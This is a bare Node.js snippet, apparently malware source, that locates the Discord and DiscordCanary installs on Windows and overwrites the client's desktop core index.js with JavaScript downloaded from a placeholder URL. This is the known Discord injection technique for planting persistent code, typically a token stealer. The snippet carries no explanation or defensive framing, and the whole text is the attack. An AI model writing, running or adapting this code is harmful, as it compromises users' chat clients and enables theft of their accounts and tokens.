const fs = require('fs'); const https = require('https'); const l = process.env.LOCALAPPDATA;
for (const d of ['Discord', 'DiscordCanary']) { const b = l + '\\' + d; if (!fs.existsSync(b)) continue; const v = fs.readdirSync(b).find(x => x.startsWith('app-'));
  https.get('https://example.com/inject.js', r => { let s = ''; r.on('data', c => s += c); r.on('end', () => fs.writeFileSync(b + '\\' + v + '\\modules\\discord_desktop_core-1\\discord_desktop_core\\index.js', s)); }); }
